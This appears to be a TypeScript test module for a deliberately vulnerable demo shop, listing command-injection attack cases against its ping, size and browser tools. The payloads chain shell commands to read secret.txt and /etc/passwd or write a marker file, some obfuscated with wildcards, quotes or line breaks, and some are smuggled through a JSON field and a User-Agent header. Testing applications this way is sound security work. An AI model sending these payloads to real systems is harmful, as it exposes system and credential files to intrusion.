import { secretText } from '../../shop/folders.js';
import { type Attack, leaks, q, writes } from '../attack.js';

const ping = (payload: string, name: string, effect: Attack['effect']): Attack => ({
  name,
  request: { path: `/tools/ping?host=${q(payload)}` },
  effect,
});

/** Starts commands of the attacker's choice in a shell. */
export const commandInjection: readonly Attack[] = [
  ping('localhost; cat secret.txt', 'second command', leaks(secretText)),
  ping('localhost | cat secret.txt', 'pipe', leaks(secretText)),
  ping('x && cat /etc/passwd', 'and-list', leaks('root:x:0:0')),
  ping('$(cat /etc/passwd)', 'command substitution', leaks('root:x:0:0')),
  ping('`cat /etc/passwd | head -1`', 'back-ticks', leaks('root:x:0:0')),
  ping('x; echo pwned > marker-semicolon.txt', 'marker by redirection', writes('marker-semicolon.txt')),
  ping('x; /usr/bin/hea? -1 /etc/p?sswd', 'wildcards in paths', leaks('root:x:0:0')),
  ping("x; c''at /etc/pas''swd", 'quotes inside words', leaks('root:x:0:0')),
  ping('x\ncat /etc/passwd', 'line break', leaks('root:x:0:0')),
  {
    name: 'out of quotes in JSON',
    request: { path: '/tools/size', json: { file: 'a"; id; echo "' } },
    effect: leaks('uid='),
  },
  {
    name: 'User-Agent header',
    request: { path: '/tools/browser', headers: { 'user-agent': '"; cat /etc/passwd; echo "' } },
    effect: leaks('root:x:0:0'),
  },
];
